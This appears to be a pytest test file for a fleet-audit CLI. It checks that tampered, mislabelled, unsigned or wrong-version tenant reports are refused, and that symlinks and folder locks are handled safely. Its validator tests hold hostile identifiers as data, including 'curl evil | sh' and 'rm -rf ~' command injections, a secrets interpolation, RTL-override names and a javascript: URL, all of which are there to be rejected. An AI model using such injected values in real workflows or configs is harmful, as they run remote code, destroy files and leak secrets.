"""Issue 29: what `fleet merge` and `--previous` read is a claim, not a fact; what a fleet writes stays in --out.

A tenant report's summary is derived again from its findings (one that claims 0 over failing findings is drift);
a file that is not a report of a version this build knows is refused with one line naming it; a report is bound
to its tenant (its inventory name, its tenant id), and sealed with SSPR_PLAN_KEY where it is set. `fleet check`
never writes through a symlinked tenant folder, and two runs never write one --out at once.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.helpers.fault_matrix import assert_no_traceback, run_cli

ROOT = Path(__file__).resolve().parents[2]
KEY = "0123456789abcdef0123456789abcdef-fleet-trust"
TENANT_A = "11111111-2222-3333-4444-555555555555"
TENANT_B = "99999999-8888-7777-6666-555555555555"


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A demo snapshot and its report (baseline policy, offline), as a tenant's job writes them."""
    folder = tmp_path_factory.mktemp("trust")
    saved = os.environ.pop("SSPR_PLAN_KEY", None)
    try:
        made = run_cli("collect", "--lab", "demo", "--out", str(folder / "snap.json"))
        assert made.code == 0, made.stderr
        checked = run_cli("check", str(ROOT / "policies" / "baseline.yaml"), "--snapshot", str(folder / "snap.json"),
                          "--format", "json", "--out", str(folder / "report"))
        assert checked.code == 1, checked.stderr
        yield folder
    finally:
        if saved is not None:
            os.environ["SSPR_PLAN_KEY"] = saved


def report_data(runs: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((runs / "report" / "sspr-audit.json").read_text())
    return data


def placed(folder: Path, tenant: str, data: dict[str, Any] | str) -> Path:
    path = folder / tenant / "sspr-audit.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data if isinstance(data, str) else json.dumps(data))
    return path


def refused_in_one_line(run: Any, *needles: str) -> None:
    assert_no_traceback(run)
    assert run.code == 2, run.stdout + run.stderr
    errors = [line for line in run.stderr.splitlines() if line.startswith("error:")]
    assert len(errors) == 1, run.stderr
    for needle in needles:
        assert needle in errors[0], (needle, run.stderr)


# --- re-derivation --------------------------------------------------------------------------------


def test_a_report_that_claims_0_over_failing_findings_is_drift(runs: Path, tmp_path: Path) -> None:
    data = report_data(runs)
    assert any(f["status"] == "fail" for f in data["findings"])
    data["summary"]["exit_code"] = 0
    data["summary"]["by_status"] = {status: 0 for status in data["summary"]["by_status"]}
    data["summary"]["by_status"]["pass"] = data["summary"]["total"]
    path = placed(tmp_path / "jobs", "contoso", data)
    merged = run_cli("fleet", "merge", str(path), "--out", str(tmp_path / "out"))
    assert_no_traceback(merged)
    assert merged.code == 1, merged.stdout + merged.stderr
    fleet = json.loads((tmp_path / "out" / "sspr-fleet.json").read_text())
    row = fleet["tenants"][0]
    assert fleet["exit_code"] == 1 and row["exit_code"] == 1
    fails = sum(1 for f in data["findings"] if f["status"] == "fail")
    counts = row["summary"]["by_status"]
    assert counts["fail"] == fails and counts["pass"] < data["summary"]["total"]
    assert "every tenant complies" not in (tmp_path / "out" / "sspr-fleet.md").read_text()
    assert "says exit 0" in merged.log  # the edit is said, not silently taken


@pytest.mark.parametrize("claimed", [0, 1, 3])
def test_the_recorded_fail_on_and_unknown_handling_decide_whatever_the_summary_says(
        runs: Path, tmp_path: Path, claimed: int) -> None:
    lenient = tmp_path / "lenient"
    # cloud checks only: the demo's directory seeds critical delegation drift (ad.acl.tier0_reach,
    # ad.service_account.control), which --fail-on critical rightly fails; the honest exit here must be 0
    from ruamel.yaml import YAML
    yaml = YAML(typ="rt")
    policy = yaml.load((ROOT / "policies" / "baseline.yaml").read_text())
    del policy["directory"]
    with (tmp_path / "cloud.yaml").open("w") as handle:
        yaml.dump(policy, handle)
    checked = run_cli("check", str(tmp_path / "cloud.yaml"), "--snapshot", str(runs / "snap.json"),
                      "--format", "json", "--out", str(lenient), "--fail-on", "critical", "--unknown", "warn")
    data = json.loads((lenient / "sspr-audit.json").read_text())
    assert data["fail_on"] == "critical" and data["unknown"] == "warn"
    honest = checked.code
    assert not any(f["status"] == "fail" and f["severity"] == "critical" for f in data["findings"]) and honest == 0
    data["summary"]["exit_code"] = claimed
    merged = run_cli("fleet", "merge", str(placed(tmp_path / "jobs", "lenient", data)), "--out", str(tmp_path / "o"))
    assert merged.code == honest, merged.stderr


# --- only reports of a known version --------------------------------------------------------------


def test_merge_refuses_what_is_not_a_report_of_a_known_version(runs: Path, tmp_path: Path) -> None:
    plan = run_cli("plan", str(ROOT / "policies" / "baseline.yaml"), "--snapshot", str(runs / "snap.json"),
                   "--out", str(tmp_path / "plan.json"))
    assert (tmp_path / "plan.json").is_file(), plan.stderr
    future = report_data(runs)
    future["format_version"] = 2
    sneaky = report_data(runs)
    sneaky["format_version"] = True  # JSON true is no version, though Python says True == 1
    cases = {
        "plan": (tmp_path / "plan.json").read_text(),
        "snapshot": (runs / "snap.json").read_text(),
        "future": json.dumps(future),
        "sneaky": json.dumps(sneaky),
        "fleet": json.dumps({"format": "sspr-auditor-fleet-report", "format_version": 1}),
        "list": "[1, 2, 3]",
        "utf16": json.dumps(report_data(runs)).encode("utf-16").decode("latin-1"),
    }
    for name, text in cases.items():
        path = placed(tmp_path / "jobs", name, text)
        merged = run_cli("fleet", "merge", str(path), "--out", str(tmp_path / f"out-{name}"))
        refused_in_one_line(merged, str(path))
        assert not (tmp_path / f"out-{name}").exists(), name
    merged = run_cli("fleet", "merge", str(placed(tmp_path / "jobs", "future", json.dumps(future))),
                     "--out", str(tmp_path / "o"))
    assert "format version 2; this build reads version 1" in merged.stderr


# --- bound to the tenant ----------------------------------------------------------------------------


def test_a_report_merged_under_another_tenants_name_is_refused(runs: Path, tmp_path: Path) -> None:
    data = report_data(runs)
    data["tenant"] = "contoso"  # as `fleet check` records it
    path = placed(tmp_path / "jobs", "fabrikam", data)
    refused_in_one_line(run_cli("fleet", "merge", str(path), "--out", str(tmp_path / "o")),
                        str(path), "contoso", "fabrikam")
    ok = run_cli("fleet", "merge", f"contoso={path}", "--out", str(tmp_path / "o"))
    assert ok.code == 1, ok.stderr


def test_merge_with_the_inventory_refuses_a_report_of_another_tenant_id(runs: Path, tmp_path: Path) -> None:
    (tmp_path / "base.yaml").write_text("version: 1\nwriteback:\n  enabled: true\n")
    fleet = tmp_path / "fleet.yaml"
    fleet.write_text(f"version: 1\ntenants:\n  - name: contoso\n    tenant_id: {TENANT_A}\n    auth: github-oidc\n"
                     f"    client_id: {TENANT_B}\n    policy: base.yaml\n")
    data = report_data(runs)
    data["origin"], data["tenant_id"] = f"live:{TENANT_B}", TENANT_B
    path = placed(tmp_path / "jobs", "contoso", data)
    refused_in_one_line(run_cli("fleet", "merge", str(path), "--fleet", str(fleet), "--out", str(tmp_path / "o")),
                        str(path), TENANT_B, TENANT_A)
    data["origin"], data["tenant_id"] = f"live:{TENANT_A.upper()}", TENANT_A.upper()  # ids compare in any case
    placed(tmp_path / "jobs", "contoso", data)
    ok = run_cli("fleet", "merge", str(path), "--fleet", str(fleet), "--out", str(tmp_path / "o"))
    assert ok.code == 1, ok.stderr
    other = placed(tmp_path / "jobs", "other", data)
    refused_in_one_line(run_cli("fleet", "merge", str(other), "--fleet", str(fleet), "--out", str(tmp_path / "o2")),
                        "no tenant of")
    # without the inventory: two names, one tenant
    refused_in_one_line(run_cli("fleet", "merge", str(path), str(other), "--out", str(tmp_path / "o3")),
                        "same tenant")


def test_check_previous_of_another_tenant_is_refused(runs: Path, tmp_path: Path) -> None:
    data = report_data(runs)
    data["origin"], data["tenant_id"] = f"live:{TENANT_A}", TENANT_A
    old = tmp_path / "old.json"
    old.write_text(json.dumps(data))
    run = run_cli("check", str(ROOT / "policies" / "baseline.yaml"), "--snapshot", str(runs / "snap.json"),
                  "--format", "json", "--out", str(tmp_path / "new"), "--previous", str(old))
    refused_in_one_line(run, str(old), TENANT_A, "lab:demo")
    assert not (tmp_path / "new").exists()
    same = run_cli("check", str(ROOT / "policies" / "baseline.yaml"), "--snapshot", str(runs / "snap.json"),
                   "--format", "json", "--out", str(tmp_path / "new"), "--previous",
                   str(runs / "report" / "sspr-audit.json"))
    assert same.code == 1, same.stderr


def test_fleet_previous_listing_another_tenant_id_under_a_name_is_refused(runs: Path, tmp_path: Path) -> None:
    data = report_data(runs)
    data["origin"], data["tenant_id"] = f"live:{TENANT_A}", TENANT_A
    path = placed(tmp_path / "jobs", "contoso", data)
    first = run_cli("fleet", "merge", str(path), "--out", str(tmp_path / "first"))
    assert first.code == 1, first.stderr
    previous = json.loads((tmp_path / "first" / "sspr-fleet.json").read_text())
    assert previous["tenants"][0]["tenant_id"] == TENANT_A
    previous["tenants"][0]["tenant_id"] = TENANT_B
    (tmp_path / "previous.json").write_text(json.dumps(previous))
    run = run_cli("fleet", "merge", str(path), "--previous", str(tmp_path / "previous.json"), "--out",
                  str(tmp_path / "second"))
    refused_in_one_line(run, "previous.json", "contoso", TENANT_B)
    assert not (tmp_path / "second").exists()


# --- sealed with SSPR_PLAN_KEY -----------------------------------------------------------------------


def test_with_the_key_reports_are_sealed_and_an_edit_or_a_missing_seal_is_refused(
        runs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SSPR_PLAN_KEY", KEY)
    snapshot = tmp_path / "snap.json"  # collected with the key: a snapshot made without it is refused with it
    assert run_cli("collect", "--lab", "demo", "--out", str(snapshot)).code == 0
    made = run_cli("check", str(ROOT / "policies" / "baseline.yaml"), "--snapshot", str(snapshot),
                   "--format", "json,html", "--out", str(tmp_path / "signed"))
    assert made.code == 1, made.stderr
    data = json.loads((tmp_path / "signed" / "sspr-audit.json").read_text())
    assert str(data["mac"]).startswith("hmac-sha256:")
    path = placed(tmp_path / "jobs", "contoso", data)
    assert run_cli("fleet", "merge", str(path), "--out", str(tmp_path / "o")).code == 1
    failing = next(f for f in data["findings"] if f["status"] == "fail")
    failing["status"] = "pass"  # the findings themselves: only the seal can tell
    placed(tmp_path / "jobs", "contoso", data)
    refused_in_one_line(run_cli("fleet", "merge", str(path), "--out", str(tmp_path / "o1")), str(path),
                        "signature does not match")
    unsigned = report_data(runs)
    assert unsigned["mac"] is None
    placed(tmp_path / "jobs", "contoso", unsigned)
    refused_in_one_line(run_cli("fleet", "merge", str(path), "--out", str(tmp_path / "o2")), str(path), "not signed")
    signed = tmp_path / "signed" / "sspr-audit.json"
    again = run_cli("check", str(ROOT / "policies" / "baseline.yaml"), "--snapshot", str(snapshot),
                    "--format", "json", "--out", str(tmp_path / "again"), "--previous", str(signed))
    assert again.code == 1, again.stderr
    monkeypatch.delenv("SSPR_PLAN_KEY")
    refused_in_one_line(run_cli("check", str(ROOT / "policies" / "baseline.yaml"), "--snapshot",
                                str(runs / "snap.json"), "--out", str(tmp_path / "nokey"), "--previous", str(signed)),
                        str(signed), "is signed")


# --- the fleet's folders ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def lab_fleet(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from ruamel.yaml import YAML

    folder = tmp_path_factory.mktemp("labfleet")
    yaml = YAML(typ="rt")
    base = yaml.load((ROOT / "policies" / "baseline.yaml").read_text())
    del base["directory"]
    with (folder / "base.yaml").open("w") as handle:
        yaml.dump(base, handle)
    path = folder / "fleet.yaml"
    path.write_text("version: 1\ntenants:\n  - name: demo\n    lab: {scenario: demo}\n    policy: base.yaml\n")
    return path


def test_fleet_check_never_writes_through_a_symlinked_tenant_folder(lab_fleet: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "sspr-audit.json").write_text("precious\n")
    out = tmp_path / "out"
    out.mkdir()
    (out / "demo").symlink_to(outside, target_is_directory=True)
    run = run_cli("fleet", "check", str(lab_fleet), "--out", str(out), "--progress", "never")
    refused_in_one_line(run, str(out / "demo"), "symlink")
    assert sorted(p.name for p in outside.iterdir()) == ["sspr-audit.json"]
    assert (outside / "sspr-audit.json").read_text() == "precious\n"
    assert sorted(p.name for p in out.iterdir()) == ["demo"]


def test_a_second_fleet_run_into_the_same_out_is_refused(lab_fleet: Path, runs: Path, tmp_path: Path) -> None:
    from auditor.files import locked_folder

    out = tmp_path / "out"
    out.mkdir()
    with locked_folder(out, wait_seconds=0):  # the first run, still writing: it holds the folder's own lock
        run = run_cli("fleet", "check", str(lab_fleet), "--out", str(out), "--progress", "never")
        merged = run_cli("fleet", "merge", f"demo={runs / 'report' / 'sspr-audit.json'}", "--out", str(out))
    assert_no_traceback(run)
    assert run.code == 6, run.stdout + run.stderr
    assert "another fleet run is writing" in run.stderr and str(out) in run.stderr
    assert not list(out.glob("sspr-fleet.*")) and not (out / "demo").exists()
    assert merged.code == 6 and "another fleet run is writing" in merged.stderr, merged.stderr
    after = run_cli("fleet", "check", str(lab_fleet), "--out", str(out), "--progress", "never")
    assert after.code == 1, after.stderr  # released: the next run goes on
    assert json.loads((out / "demo" / "sspr-audit.json").read_text())["tenant"] == "demo"


# --- shaped identifiers: what `fleet matrix` prints for workflows to interpolate ----------------------

LIVE = "  - name: contoso\n    policy: base.yaml\n    auth: github-oidc\n"


@pytest.mark.parametrize(("entry", "line", "key"), [
    (f"{LIVE}    tenant_id: 'x\"}}}}; curl evil | sh; echo {{{{'\n    client_id: {TENANT_B}\n", 6, "tenant_id"),
    (f"{LIVE}    tenant_id: '${{{{ secrets.AZURE_SECRET }}}}'\n", 6, "tenant_id"),
    (f"{LIVE}    tenant_id: \"contoso.onmicrosoft.com\\n\"\n", 6, "tenant_id"),
    (f"{LIVE}    tenant_id: \"{TENANT_A}\\u202e\"\n", 6, "tenant_id"),
    (f"{LIVE}    tenant_id: {TENANT_A}\n    client_id: 'not-a-guid'\n", 7, "client_id"),
    (f"{LIVE}    tenant_id: {TENANT_A}\n    github_environment: 'prod\" && env'\n", 7, "github_environment"),
    ("  - name: \"demo\\u202egnp.exe\"\n    lab: {scenario: demo}\n    policy: base.yaml\n", 3, "name"),
    ("  - name: demo\n    lab: {scenario: 'demo; rm -rf ~'}\n    policy: base.yaml\n", 4, "scenario"),
])
def test_a_hostile_id_or_name_is_refused_at_validate_time_with_file_and_line(
        tmp_path: Path, entry: str, line: int, key: str) -> None:
    (tmp_path / "base.yaml").write_text("version: 1\nwriteback:\n  enabled: true\n")
    bad = tmp_path / "fleet.yaml"
    bad.write_text("version: 1\ntenants:\n" + entry)
    for command in ("validate", "matrix"):
        run = run_cli("fleet", command, str(bad))
        assert_no_traceback(run)
        assert run.code == 2 and f"{bad}:{line}:" in run.stderr and key in run.stderr, (command, run.stderr)
        assert run.stdout == "" or (command == "validate" and "ok" not in run.stdout)


def test_well_formed_ids_are_accepted_and_printed_as_given(tmp_path: Path) -> None:
    (tmp_path / "base.yaml").write_text("version: 1\nwriteback:\n  enabled: true\n")
    good = tmp_path / "fleet.yaml"
    good.write_text(f"version: 1\ntenants:\n{LIVE}    tenant_id: contoso.onmicrosoft.com\n    client_id: {TENANT_B}\n"
                    f"    github_environment: prod-eu_1\n  - name: fabrikam\n    policy: base.yaml\n"
                    f"    tenant_id: {TENANT_A.upper()}\n")
    run = run_cli("fleet", "matrix", str(good))
    assert run.code == 0, run.stderr
    entries = json.loads(run.stdout)["include"]
    assert [e["tenant_id"] for e in entries] == ["contoso.onmicrosoft.com", TENANT_A.upper()]


def test_a_tenant_id_listed_twice_in_any_case_is_refused_at_its_line(tmp_path: Path) -> None:
    (tmp_path / "base.yaml").write_text("version: 1\nwriteback:\n  enabled: true\n")
    bad = tmp_path / "fleet.yaml"
    bad.write_text(f"version: 1\ntenants:\n{LIVE}    tenant_id: {TENANT_A}\n"
                   f"  - name: again\n    policy: base.yaml\n    tenant_id: {TENANT_A.upper()}\n")
    run = run_cli("fleet", "validate", str(bad))
    assert_no_traceback(run)
    assert run.code == 2 and f"{bad}:9:" in run.stderr and "tenants.1.tenant_id" in run.stderr, run.stderr
    assert "contoso (line 6)" in run.stderr


@pytest.mark.parametrize("name", ["demo\u202etxt.exe", "demo\x1b[31m", "javascript:alert(1)", "a b", "sspr-fleet.001"])
def test_merge_refuses_a_tenant_name_that_would_become_a_hostile_category(runs: Path, tmp_path: Path,
                                                                          name: str) -> None:
    path = runs / "report" / "sspr-audit.json"
    run = run_cli("fleet", "merge", f"{name}={path}", "--out", str(tmp_path / "out"))
    refused_in_one_line(run, "not a tenant name")
    assert name not in run.stderr or (name.isascii() and name.isprintable())  # shown escaped, never raw
    assert not (tmp_path / "out").exists()


def test_two_lab_tenants_of_one_scenario_merge(runs: Path, tmp_path: Path) -> None:
    """A lab scenario is a state of the lab, not a tenant: `demo` and `storm` may both run scenario demo."""
    path = runs / "report" / "sspr-audit.json"
    run = run_cli("fleet", "merge", f"demo={path}", f"storm={path}", "--out", str(tmp_path / "out"))
    assert run.code == 1, run.stderr


def test_a_weak_key_is_refused_before_a_report_is_written(runs: Path, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SSPR_PLAN_KEY", "short")
    run = run_cli("check", str(ROOT / "policies" / "baseline.yaml"), "--snapshot", str(runs / "snap.json"),
                  "--out", str(tmp_path / "out"))
    refused_in_one_line(run, "SSPR_PLAN_KEY", "at least 32")
    assert not (tmp_path / "out").exists()
